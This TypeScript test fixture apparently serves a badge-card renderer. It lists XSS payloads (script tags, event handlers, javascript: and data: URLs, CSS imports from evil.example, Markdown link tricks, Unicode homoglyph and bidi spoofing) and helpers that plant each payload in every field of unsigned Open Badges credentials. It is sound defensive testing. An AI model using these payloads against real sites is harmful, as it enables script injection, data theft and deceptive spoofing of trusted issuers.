// The hostile-credential-author corpus: strings an attacker puts in every field a card renders.
// Every payload that could run code sets `window.__xss` (the sentinel the tests watch) instead of
// calling alert(), so a success is observable without a dialog. The tests also override
// alert/confirm/prompt/print to set the same sentinel.
//
// The credentials carrying them are UNSIGNED: they end invalid (or indeterminate), but the card
// still renders what it understood, which is the point here.

export interface XssPayload {
  id: string;
  kind: 'html' | 'url' | 'css' | 'unicode' | 'markdown' | 'template';
  text: string;
}

const S = 'window.__xss=1';

const list: Array<[XssPayload['kind'], string]> = [
  // Plain HTML injection: if any field reaches innerHTML/unsafeHTML, these run.
  ['html', `<script>${S}</script>`],
  ['html', `<img src=x onerror="${S}">`],
  ['html', `<svg onload="${S}">`],
  ['html', `<svg><script>${S}</script></svg>`],
  ['html', `<iframe src="javascript:${S}"></iframe>`],
  ['html', `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`],
  ['html', `<body onload=${S}>`],
  ['html', `<details open ontoggle=${S}>x</details>`],
  ['html', `<video><source onerror="${S}"></video>`],
  ['html', `<audio src=x onerror=${S}>`],
  ['html', `<object data="javascript:${S}"></object>`],
  ['html', `<embed src="javascript:${S}">`],
  ['html', `<math><mtext><table><mglyph><style><img src=x onerror=${S}>`],
  ['html', `"><img src=x onerror=${S}>`],
  ['html', `'><script>${S}</script>`],
  ['html', `</textarea></title><script>${S}</script>`],
  ['html', `<a href="javascript:${S}">click me</a>`],
  ['html', `<form action="javascript:${S}"><button>go</button></form>`],
  ['html', `<input autofocus onfocus=${S}>`],
  ['html', `<marquee onstart=${S}>x</marquee>`],
  ['html', `<noscript><p title="</noscript><img src=x onerror=${S}>">`],
  ['html', `<base href="javascript:/">`],
  ['html', `<meta http-equiv="refresh" content="0;url=javascript:${S}">`],
  ['html', `<img src=x onerror=&#119;indow.__xss=1>`],
  ['html', `&lt;script&gt;${S}&lt;/script&gt;`],
  ['html', `<scr<script>ipt>${S}</script>`],
  ['html', `<svg><animate onbegin=${S} attributeName=x dur=1s>`],
  ['html', `<svg><a xlink:href="javascript:${S}"><text x=20 y=20>x</text></a></svg>`],
  ['html', `<svg><foreignObject><iframe src=javascript:${S}></iframe></foreignObject></svg>`],
  ['html', `<div style="background:url(javascript:${S})">x</div>`],
  // URLs: for href/src fields (issuer url, image, criteria id, evidence id, alignment targetUrl).
  ['url', `javascript:${S}`],
  ['url', `JaVaScRiPt:${S}`],
  ['url', ` javascript:${S}`],
  ['url', `java\tscript:${S}`],
  ['url', `java\nscript:${S}`],
  ['url', `\u0001javascript:${S}`],
  ['url', `javascript&colon;${S}`],
  ['url', `&#106;avascript:${S}`],
  ['url', `data:text/html,<script>${S}</script>`],
  ['url', `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==`],
  ['url', `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${S}"/>`],
  ['url', `vbscript:msgbox(1)`],
  ['url', `data:application/javascript,${S}`],
  ['url', `https://x.example/"><script>${S}</script>`],
  ['url', `file:///etc/passwd`],
  // CSS injection: matters if any field reaches a <style>, a style attribute or unsafeCSS.
  ['css', `</style><script>${S}</script>`],
  ['css', `red;background:url(javascript:${S})`],
  ['css', `expression(${S})`],
  ['css', `x{}*{background:url("javascript:${S}")}`],
  ['css', `@import url(https://evil.example/x.css);`],
  ['css', `"></style><style>*{display:none!important}</style>`],
  ['css', `-moz-binding:url(https://evil.example/xss.xml#xss)`],
  // Unicode tricks: must stay inert text (and never produce a link or markup).
  ['unicode', `Trusted \u202Egnp.exe Issuer`],
  ['unicode', `Harv\u200Bard Univ\u200Dersity`],
  ['unicode', `\u0397arvard \u0423niversity G\u043e\u043egle`],
  ['unicode', `\u2066Valid\u2069 \u2714 Verified by \u202Bhacker\u202C`],
  ['unicode', `\uFEFF<script>${S}</script>`],
  ['unicode', `\uFF1Cscript\uFF1E${S}\uFF1C/script\uFF1E`],
  ['unicode', `\u0000<img src=x onerror=${S}>`],
  // Markdown tricks: aimed at criteria.narrative, placed everywhere.
  ['markdown', `[x](javascript:${S})`],
  ['markdown', `![x](javascript:${S})`],
  ['markdown', `[x][r]\n\n[r]: javascript:${S}`],
  ['markdown', `<javascript:${S}>`],
  ['markdown', `[x](data:text/html,<script>${S}</script>)`],
  ['markdown', `[x](vbscript:msgbox(1))`],
  ['markdown', `[x](JAVASCRIPT:${S})`],
  ['markdown', `[x]( javascript:${S} "title")`],
  ['markdown', `[x](https://ok.example "a\\" onmouseover=\\"${S}")`],
  ['markdown', `Hello <b onmouseover=${S}>bold</b> **md**`],
  ['markdown', `[<img src=x onerror=${S}>](https://ok.example)`],
  ['markdown', `![x](https://ok.example/a.png" onerror="${S})`],
  ['markdown', `[a](<javascript:${S}>)`],
  ['markdown', `[a](javascript&#58;${S})`],
  ['markdown', `[a](&#x6A;avascript:${S})`],
  ['markdown', `[a](java&#x09;script:${S})`],
  ['markdown', `<details ontoggle=${S} open>md</details>`],
  ['markdown', '`<script>' + S + '</script>`'],
  ['markdown', '```html\n<script>' + S + '</script>\n```'],
  ['markdown', `![x](data:image/svg+xml,<svg onload=${S}>)`],
  // Template injection, in case anything ever evaluates strings.
  ['template', '${' + S + '}'],
  ['template', `{{constructor.constructor('${S}')()}}`],
];

export const xssPayloads: XssPayload[] = list.map(([kind, text], i) => ({ id: `${kind}-${String(i).padStart(2, '0')}`, kind, text }));

/** What a visitor must never be able to click or load: the scheme check used by every test. */
export const DANGEROUS_SCHEME = /^\s*(javascript|vbscript|data|file)\s*:/i;

/**
 * An unsigned OB 3.0 OpenBadgeCredential with `p` in every field a card renders: names,
 * descriptions, criteria narrative (Markdown) and URL, issuer name/url/image/description/email,
 * images, evidence, alignments, results, tags, endorsements (with comments).
 */
export function ob3Carrying(p: string, id = 'x'): Record<string, unknown> {
  const image = { id: p, type: 'Image', caption: p };
  return {
    '@context': ['https://www.w3.org/ns/credentials/v2', 'https://purl.imsglobal.org/spec/ob/v3p0/context-3.0.3.json'],
    id: `urn:uuid:00000000-0000-4000-8000-${id
      .replace(/[^0-9a-f]/gi, '0')
      .padStart(12, '0')
      .slice(-12)}`,
    type: ['VerifiableCredential', 'OpenBadgeCredential'],
    name: p,
    description: p,
    image,
    issuer: {
      id: 'https://hostile.example/issuer',
      type: ['Profile'],
      name: p,
      url: p,
      description: p,
      email: p,
      image,
    },
    validFrom: '2024-01-01T00:00:00Z',
    credentialSubject: {
      id: 'did:example:learner',
      type: ['AchievementSubject'],
      name: p,
      achievement: {
        id: 'https://hostile.example/achievement',
        type: ['Achievement'],
        name: p,
        description: p,
        achievementType: p,
        image,
        criteria: { id: p, narrative: p },
        tag: [p],
        alignment: [{ type: ['Alignment'], targetName: p, targetUrl: p, targetDescription: p, targetFramework: p, targetCode: p }],
        resultDescription: [{ id: 'urn:uuid:result-1', type: ['ResultDescription'], name: p, resultType: 'LetterGrade' }],
      },
      result: [{ type: ['Result'], resultDescription: 'urn:uuid:result-1', value: p, status: p }],
    },
    evidence: [{ id: p, type: ['Evidence'], name: p, description: p, narrative: p, genre: p, audience: p }],
    endorsement: [
      {
        '@context': ['https://www.w3.org/ns/credentials/v2', 'https://purl.imsglobal.org/spec/ob/v3p0/context-3.0.3.json'],
        id: 'urn:uuid:00000000-0000-4000-8000-00000000e0d0',
        type: ['VerifiableCredential', 'EndorsementCredential'],
        name: p,
        issuer: { id: 'https://hostile.example/endorser', type: ['Profile'], name: p, url: p },
        validFrom: '2024-01-01T00:00:00Z',
        credentialSubject: { id: 'https://hostile.example/achievement', type: ['EndorsementSubject'], endorsementComment: p },
      },
    ],
  };
}

/** The same payload in an OB 2.0 hosted-style assertion with the badge and issuer embedded. */
export function ob2Carrying(p: string): Record<string, unknown> {
  return {
    '@context': 'https://w3id.org/openbadges/v2',
    type: 'Assertion',
    id: 'https://hostile.example/assertions/1',
    recipient: { type: 'email', hashed: false, identity: 'learner@hostile.example' },
    issuedOn: '2024-01-01T00:00:00Z',
    verification: { type: 'hosted' },
    image: p,
    evidence: [{ id: p, narrative: p, name: p, description: p, genre: p }],
    narrative: p,
    badge: {
      type: 'BadgeClass',
      id: 'https://hostile.example/badges/1',
      name: p,
      description: p,
      image: p,
      criteria: { id: p, narrative: p },
      tags: [p],
      alignment: [{ targetName: p, targetUrl: p, targetDescription: p, targetFramework: p, targetCode: p }],
      issuer: { type: 'Issuer', id: 'https://hostile.example/issuer', name: p, url: p, email: p, description: p, image: p },
    },
  };
}
